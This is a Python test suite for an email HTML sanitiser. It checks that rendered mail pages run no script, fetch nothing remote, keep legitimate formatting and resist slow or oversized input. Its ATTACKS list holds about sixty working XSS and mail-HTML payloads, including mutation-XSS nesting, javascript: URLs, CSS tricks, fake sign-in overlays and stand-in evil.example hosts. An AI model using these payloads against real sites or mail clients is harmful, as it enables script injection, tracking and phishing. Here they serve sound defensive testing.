"""Pages in mails that are out for whoever reads them: nothing runs, nothing is fetched, nothing pretends."""

import re
import time

import pytest
from hypothesis import given
from hypothesis import strategies as st

from backups.content.pages import safe_html, text_of_html
from backups.tests.harmless import wrong_in

ATTACKS = [
    "<script>alert(1)</script>",
    "<scr<script>ipt>alert(1)</scr</script>ipt>",
    "<img src=x onerror=alert(1)>",
    "<img src='x'onerror='alert(1)'>",
    "<svg onload=alert(1)><p>",
    "<svg><animate onbegin=alert(1) attributeName=x dur=1s>",
    "<svg><a xlink:href='javascript:alert(1)'><text>x</text></a></svg>",
    "<svg><style><img src=x onerror=alert(1)></style></svg>",
    "<math><mtext><table><mglyph><style><!--</style><img title='--&gt;&lt;img src=1 onerror=alert(1)&gt;'>",
    "<math><annotation-xml encoding='text/html'><style><img src=x onerror=alert(1)></style></annotation-xml></math>",
    "<form><math><mtext></form><form><mglyph><style></math><img src onerror=alert(1)>",
    "<noscript><p title='</noscript><img src=x onerror=alert(1)>'>",
    "<template><img src=x onerror=alert(1)></template>",
    "<textarea><img title='</textarea><img src=x onerror=alert(1)>'></textarea>",
    "<title><img title='</title><img src=x onerror=alert(1)>'></title>",
    "<xmp><p title='</xmp><img src=x onerror=alert(1)>'></xmp>",
    "<!--><img src=x onerror=alert(1)>-->",
    "<![CDATA[><img src=x onerror=alert(1)>]]>",
    "<a href='javascript:alert(1)'>x</a>",
    "<a href='jav&#x09;ascript:alert(1)'>x</a>",
    "<a href='java\nscript:alert(1)'>x</a>",
    "<a href='&#1;javascript:alert(1)'>x</a>",
    "<a href='JaVaScRiPt&colon;alert(1)'>x</a>",
    "<a href='vbscript:msgbox(1)'>x</a>",
    "<a href='data:text/html,<script>alert(1)</script>'>x</a>",
    "<a href='data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg=='>x</a>",
    "<a href='file:///etc/passwd'>x</a><a href='//evil.example/x'>x</a><a href='/logout/'>x</a>",
    "<a href='https://evil.example' ping='https://evil.example/ping' target=_top rel=opener>x</a>",
    "<base href='https://evil.example/'><a href='x'>x</a><img src='x.png'>",
    "<meta http-equiv=refresh content='0;url=https://evil.example'>",
    "<link rel=stylesheet href='https://evil.example/a.css'>",
    "<style>@import 'https://evil.example/a.css'; body{background:url(https://evil.example)}</style>",
    "<p style=\"background:url(https://evil.example/pixel)\">x</p>",
    "<p style=\"background:u\\72l(https://evil.example/pixel)\">x</p>",
    "<p style=\"background:url/**/(https://evil.example/pixel)\">x</p>",
    "<p style=\"width:expression(alert(1))\">x</p><p style=\"behavior:url(x.htc);-moz-binding:url(x)\">x</p>",
    "<div style=\"position:fixed;top:0;left:0;width:100%;height:100%;z-index:9\">Your session ended. Sign in</div>",
    "<p style=\"color:red;}</style><script>alert(1)</script>\">x</p>",
    "<iframe src='https://evil.example'></iframe><iframe srcdoc='<script>alert(1)</script>'></iframe>",
    "<object data='https://evil.example'><embed src='https://evil.example'></object>",
    "<frameset><frame src='https://evil.example'></frameset>",
    "<form action='https://evil.example'><input name=password><button formaction='javascript:alert(1)'>Go</button>",
    "<input onfocus=alert(1) autofocus><details open ontoggle=alert(1)><select autofocus onfocus=alert(1)>",
    "<video poster='https://evil.example/p.png'><source src='https://evil.example/v' onerror=alert(1)></video>",
    "<audio src='https://evil.example/a' autoplay></audio><bgsound src='https://evil.example/a'>",
    "<img srcset='https://evil.example/a.png 2x' src='data:image/svg+xml,<svg onload=alert(1)>'>",
    "<picture><source srcset='https://evil.example/a.png'><img lowsrc='https://evil.example/b'></picture>",
    "<table background='https://evil.example/t.png'><tr><td background='//evil.example/u.png'>x</td></tr></table>",
    "<img src='http:\\\\evil.example\\a'><img src='\\\\evil.example\\share\\a.png'><img src=' https://evil.example/'>",
    "<div id=csrf name=cookie class=button>x</div><form id=document><input name=cookie></form>",
    "<p dir=rtl>x</p><bdo dir=rtl>txt.exe</bdo>\u202egnp.exe\u2066x",
    "<a href='https://bank.example&#x202e;moc.live'>x</a>",
    "<plaintext><img src=x onerror=alert(1)>",
    "<?xml version='1.0'?><?php echo 1 ?><%= 1 %><img/src/onerror=alert(1)>",
    "<img src=\"cid:x\" onload=alert(1)><img src='cid:\"onerror=alert(1) x=\"'>",
    "<svg><![CDATA[</svg><img src=x onerror=alert(1)>]]>",
    "<p title=\"--><script>alert(1)</script>\">x",
    "\0<scr\0ipt>alert(1)</scr\0ipt><im\0g src=x onerror=alert(1)>",
    "+ADw-script+AD4-alert(1)+ADw-/script+AD4-",
]  # fmt: skip


@pytest.mark.parametrize("attack", ATTACKS)
def test_a_page_that_attacks_otto_is_harmless_however_it_is_wrapped(attack):
    picture = {"x": "data:image/png;base64,AAAA"}

    for page in (attack, f"<table><tr><td>{attack}", f"<p>{attack}</p><p>after</p>", f"{attack}{attack}"):
        shown = safe_html(page, inline=picture)

        assert wrong_in(shown.html) == []
        assert "\u202e" not in shown.html
        assert "\u2066" not in shown.html
        # What was made harmless reads the same once more: nothing in it becomes something else.
        again = safe_html(shown.html).html.replace("cid:x", "")
        assert sorted(re.split("[ >]", again)) == sorted(re.split("[ >]", shown.html))


@pytest.mark.parametrize(
    ("page", "blocked"),
    [
        ("<img src='https://track.example/1'><img src='//track.example/2' width=1><img src=http://track.example>", 3),
        ("<td background='https://track.example/1'>", 0),
        ("<table background='https://track.example/1'><tr><td background='http://track.example/1'>", 2),
        ("<p style='background-image: url( \"https://track.example\")'>", 1),
        ("<link rel='stylesheet' href=x><link rel=icon href=y><style>@import url(https://track.example)</style>", 2),
        ("<body background='https://track.example/1'><p>x", 1),
        ("<img src='cid:a'><img src='x.png'><img src='data:image/gif;base64,R0lGODlh'><a href='https://x.example'>", 0),
    ],
)
def test_what_was_not_fetched_is_counted(page, blocked):
    assert safe_html(page).blocked == blocked


def test_what_makes_a_mail_readable_stays():
    page = (
        "<h1 style=\"color:#c00; font-family: 'Segoe UI', Arial; position: absolute\">Offer</h1>"
        '<table border="1" cellpadding="3"><tr><td colspan="2" bgcolor="#eee" style="color:rgb(1, 2, 3)">12 €</td></tr>'
        '</table><p>Write to <a href="mailto:ada@northwind.example">Ada</a> or <a href="https://acme.example/?a=1&b=2">'
        'read on</a>.<br><font color="red" face="Arial">Now</font></p><ol start="3"><li>x</li></ol>'
        '<img src="cid:logo%40acme" alt="Logo" width="10"><img src="CID:gone" alt="gone">'
    )

    shown = safe_html(page, inline={"<logo@acme>": "/parts/1?a=1&b=2"})

    assert "style=\"color:#c00;font-family:'Segoe UI', Arial\"" in shown.html
    assert 'style="color:rgb(1, 2, 3)"' in shown.html
    assert 'bgcolor="#eee"' in shown.html
    assert 'href="https://acme.example/?a=1&amp;b=2"' in shown.html
    assert shown.html.count('rel="noopener noreferrer nofollow"') == shown.html.count('target="_blank"') == 2
    assert 'src="/parts/1?a=1&amp;b=2"' in shown.html
    assert shown.html.count("src=") == 1
    assert 'alt="gone"' in shown.html
    assert (shown.blocked, shown.is_cut) == (0, False)


def test_words_that_look_like_a_picture_stay_words():
    shown = safe_html('&lt;img src="cid:logo"&gt;', inline={"logo": "data:image/png;base64,AAAA"})

    assert shown.html == '&lt;img src="cid:logo"&gt;'


@pytest.mark.parametrize("beginning", ["<div>", "<p " + "a{} " * 20_000], ids=["div", "p"])
def test_a_page_that_could_take_minutes_is_shown_as_its_text(beginning):
    page = "".join(beginning.replace("{}", str(number)) for number in range(2_500_000 // len(beginning)))

    shown = safe_html(f"Dear Otto{page}")

    assert shown.is_cut
    assert shown.html.startswith(("Dear Otto", "<p>Dear Otto"))
    assert wrong_in(shown.html[:200_000]) == []


@pytest.mark.parametrize(
    "beginning",
    ["<ul><li>", "<b>x", "<!--", "<script><", "<a '", '<a "', "&#x", "<p " + "a=' " * 999],
)
def test_the_text_of_a_page_takes_no_time_however_long_it_is(beginning):
    start = time.process_time()

    text = text_of_html(beginning * (5_000_000 // len(beginning)))

    assert time.process_time() - start < 4
    assert len(text) <= 1_000_000


def test_a_long_page_is_cut_and_says_so_but_its_drawn_pictures_go_first():
    words = "word " * 500_000
    drawn = f'<img src="data:image/png;base64,{"A" * 3_000_000}"><p>the end</p>'

    assert safe_html(words).is_cut
    assert not safe_html("short").is_cut
    assert safe_html(drawn).is_cut
    assert "the end" in safe_html(drawn).html


@pytest.mark.parametrize(
    ("page", "text"),
    [
        ("<p>One</p><p>Two<br>Three</p>", "One\n\nTwo\nThree"),
        ("<ul><li>a<li>b</ul><table><tr><td>1<td>2<tr><td>3</table>", "• a\n• b\n\n1 2\n3"),
        ("a\n  b&nbsp;c &lt;d&gt; &euro;", "a b c <d> €"),
        ("<pre>a\n  b</pre>c", "a\nb\nc"),
        ("<style>p{}</style><script>if (a<b) x()</script><!-- no -->seen", "seen"),
        ('<img alt="a > b">after <a href="x">link</a>', "after link"),
        ("1 < 2 and 3 > 2", "1 < 2 and 3 > 2"),
        ("<title>T</title><body>B", "T\n\nB"),
        ("a\0b\ud800c", "abc"),
    ],
)
def test_a_page_reads_as_plain_text(page, text):
    assert text_of_html(page) == text


@given(st.text(alphabet="<>/!-\"'= abimgsrcstyle:;&#()\\", max_size=80))
def test_whatever_is_written_no_page_gets_more_than_it_may(page):
    assert wrong_in(safe_html(page).html) == []
    text_of_html(page)
